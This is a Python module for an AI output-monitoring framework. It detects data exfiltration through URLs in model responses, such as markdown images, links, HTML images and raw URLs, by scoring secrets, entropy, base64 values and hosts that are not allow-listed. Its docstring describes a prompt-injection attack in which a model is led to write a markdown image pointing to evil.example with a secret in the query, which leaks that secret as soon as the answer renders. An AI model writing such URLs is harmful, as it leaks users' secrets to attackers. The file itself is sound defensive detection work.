"""Data exfiltration through URLs in outputs: markdown images and links, HTML images, raw URLs.

A markdown image is fetched by the chat client as soon as the answer renders, so an injected
instruction that makes the model write ``![](https://evil.example/p?d=<secret>)`` leaks the secret
with no click. A URL is flagged when it carries data (a query or path value that is itself a
secret or personal data, or that is long, high-entropy or base64-looking) and when its host is not
on the deployment's allow-list. URLs are located with RE2 and parsed with ``urllib``; every value
examined is bounded in length.
"""

from __future__ import annotations

import math
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import parse_qsl, unquote, urlsplit

import re2

from garrison.monitoring.detectors.base import (
    Category,
    Detector,
    Direction,
    Finding,
    ScanContext,
    Severity,
    Span,
    detector_registry,
)
from garrison.monitoring.detectors.normalise import NormalisedText
from garrison.monitoring.detectors.pattern_detector import engine_for, validated

MAX_URL_LENGTH = 16_384
MAX_URLS = 2_000
MAX_VALUE_CHECKED = 4_096
LONG_VALUE = 64
HIGH_ENTROPY_BITS = 4.0
MIN_ENTROPY_LENGTH = 20
_DATA_CATEGORIES = (Category.SECRET, Category.PII)

# One RE2 pass finds every URL with the construct around it; group 1/2/3/4 say which construct.
_URLS = re2.compile(
    r"(!\[[^\]\n]{0,500}\]\(\s*<?)(https?://[^\s)>]+)"
    r"|(\[[^\]\n]{0,500}\]\(\s*<?)(https?://[^\s)>]+)"
    r"|(<img\b[^>]{0,500}\bsrc\s*=\s*[\"']?)(https?://[^\s\"'>]+)"
    r"|\b((?:https?|ftp)://[^\s<>\"'`\])]+)",
    re2.Options(),
)
_BASE64ISH = re2.compile(r"^[A-Za-z0-9+/_\-]{24,}={0,2}$")


@dataclass(frozen=True)
class FoundUrl:
    kind: str  # markdown_image, markdown_link, html_image, raw
    url: str
    start: int
    end: int


def find_urls(text: str) -> Iterator[FoundUrl]:
    if "://" not in text:
        return
    for count, match in enumerate(_URLS.finditer(text)):
        if count >= MAX_URLS:
            return
        for group, kind in ((2, "markdown_image"), (4, "markdown_link"), (6, "html_image")):
            if match.group(group) is not None:
                yield FoundUrl(kind, match.group(group), match.start(group), match.end(group))
                break
        else:
            yield FoundUrl("raw", match.group(7), match.start(7), match.end(7))


def shannon_entropy(value: str) -> float:
    if not value:
        return 0.0
    counts = Counter(value)
    total = len(value)
    return -sum(n / total * math.log2(n / total) for n in counts.values())


def host_allowed(host: str, allowed: Sequence[str]) -> bool:
    host = host.lower().rstrip(".")
    for entry in allowed:
        domain = entry.lower().strip().lstrip(".").rstrip(".")
        if domain and (host == domain or host.endswith("." + domain)):
            return True
    return False


def carried_values(url: str) -> list[str]:
    """Query values, path segments and the fragment: where a URL can smuggle data."""
    parts = urlsplit(url[:MAX_URL_LENGTH])
    values = [value for _, value in parse_qsl(parts.query, keep_blank_values=False)]
    values.extend(unquote(segment) for segment in parts.path.split("/") if segment)
    if parts.fragment:
        values.append(unquote(parts.fragment))
    return [value[:MAX_VALUE_CHECKED] for value in values]


def looks_like_words(value: str) -> bool:
    """A slug (``how-to-remove-an-item``) or a sentence: long, but not a data blob."""
    separators = sum(value.count(ch) for ch in "-_+ ")
    return separators > 0 and len(value) / (separators + 1) < 12


def looks_like_token(value: str) -> bool:
    has_digit = any(ch.isdigit() for ch in value)
    has_upper = any(ch.isupper() for ch in value)
    has_lower = any(ch.islower() for ch in value)
    return has_digit + has_upper + has_lower >= 2


def data_signals(url: str) -> list[str]:
    signals: list[str] = []
    for value in carried_values(url):
        if looks_like_words(value):
            continue
        if len(value) >= LONG_VALUE:
            signals.append("long_value")
        if (
            len(value) >= MIN_ENTROPY_LENGTH
            and looks_like_token(value)
            and shannon_entropy(value) >= HIGH_ENTROPY_BITS
        ):
            signals.append("high_entropy")
        if _BASE64ISH.search(value) is not None and looks_like_token(value):
            signals.append("base64_value")
    return sorted(set(signals))


def url_score(kind: str, sensitive: bool, signals: Sequence[str], unlisted: bool) -> float:
    """Judgement-calibrated: images leak with no click, links need one, raw URLs need two."""
    image = kind in ("markdown_image", "html_image")
    if sensitive:
        score = 0.95 if image else 0.85
    elif signals:
        # A raw URL with a token in it is common (signed links, IDs); only an image fetches it
        # without a click.
        score = 0.85 if image else 0.6 if kind == "markdown_link" else 0.45
    elif unlisted:
        score = 0.5 if image else 0.25
    else:
        return 0.0
    if unlisted and (sensitive or signals):
        score = min(0.99, score + 0.05)
    return score


class ExfiltrationDetector(Detector):
    id = "DET-EXFILTRATION"
    version = "1.0.0"
    description = (
        "Markdown images and links, HTML images and raw URLs in outputs whose query or path "
        "carries data (secrets, PII, high-entropy or base64 values) or whose domain is not allowed"
    )
    categories = (Category.EXFILTRATION,)
    directions = (Direction.OUTPUT, Direction.RETRIEVED)
    owasp = ("LLM02:2025", "LLM05:2025")
    atlas = ("AML.T0077", "AML.T0086", "AML.T0057")

    def scan(self, text: Any, context: ScanContext) -> Sequence[Finding]:
        normalised: NormalisedText = text
        sensitive_spans = self._sensitive_spans(normalised)
        findings: list[Finding] = []
        for found in find_urls(normalised.text):
            finding = self._judge(found, context, sensitive_spans)
            if finding is not None:
                findings.append(finding)
        findings.sort(key=lambda finding: finding.score, reverse=True)
        return findings

    def _sensitive_spans(self, normalised: NormalisedText) -> list[tuple[int, int, str]]:
        """Secret and PII matches (validated) located in the normalised text."""
        located: list[tuple[int, int, str]] = []
        for match in engine_for(normalised).match(normalised):
            if match.pattern.category not in _DATA_CATEGORIES:
                continue
            spans, _ = validated(normalised, match)
            for span in spans:
                start, end = normalised.origin_of(span.view, span.start, span.end)
                located.append((start, end, match.pattern.label or match.pattern.id))
        return located

    def _judge(
        self, found: FoundUrl, context: ScanContext, sensitive: list[tuple[int, int, str]]
    ) -> Finding | None:
        try:
            parts = urlsplit(found.url[:MAX_URL_LENGTH])
            host = parts.hostname or ""
        except ValueError:
            host = ""
        unlisted = bool(context.allowed_domains) and not host_allowed(host, context.allowed_domains)
        inside = sorted(
            {label for start, end, label in sensitive if start < found.end and end > found.start}
        )
        try:
            signals = data_signals(found.url)
        except ValueError:
            signals = ["unparseable"]
        score = url_score(found.kind, bool(inside), signals, unlisted)
        if score <= 0.0:
            return None
        return Finding(
            detector_id=self.id,
            detector_version=self.version,
            category=Category.EXFILTRATION,
            score=score,
            severity=Severity.HIGH if score >= 0.8 else Severity.MEDIUM,
            message=f"{found.kind.replace('_', ' ')} to {host or 'an unparseable host'} "
            + ("carries sensitive data" if inside else "carries data" if signals else "")
            + (" (domain not allowed)" if unlisted else ""),
            owasp=self.owasp,
            atlas=self.atlas,
            spans=(Span(found.start, found.end),),
            explanation={
                "kind": found.kind,
                "host": host,
                "domain_allowed": not unlisted,
                "sensitive": inside,
                "signals": signals,
            },
        )


detector_registry.register(ExfiltrationDetector.id, ExfiltrationDetector)
